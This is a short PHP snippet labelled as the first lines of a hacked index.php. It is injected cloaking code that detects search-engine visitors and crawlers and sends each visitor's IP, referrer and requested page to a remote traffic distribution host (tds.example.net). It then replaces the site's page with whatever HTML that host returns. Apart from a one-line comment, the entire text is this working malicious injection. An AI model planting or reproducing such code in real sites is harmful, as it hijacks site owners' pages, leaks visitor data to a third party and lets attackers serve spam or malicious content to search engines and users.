<?php
// first lines of a hacked index.php: search visitors and crawlers get what the remote
// traffic system answers for this site, this page and this visitor
$ref = strtolower($_SERVER['HTTP_REFERER'] ?? '');
$agent = $_SERVER['HTTP_USER_AGENT'] ?? '';
if (preg_match('/google|bing|yahoo/', $ref) || stripos($agent, 'googlebot') !== false) {
    $site = $_SERVER['HTTP_HOST'];
    $page = $_SERVER['REQUEST_URI'];
    $ip = $_SERVER['REMOTE_ADDR'];
    $answer = @file_get_contents('http://' . 'tds.example.net/go.php?site=' . urlencode($site)
        . '&p=' . urlencode($page) . '&ip=' . $ip . '&r=' . urlencode($ref));
    if ($answer) {
        header('Content-Type: text/html; charset=utf-8');
        echo $answer;
        exit;
    }
}
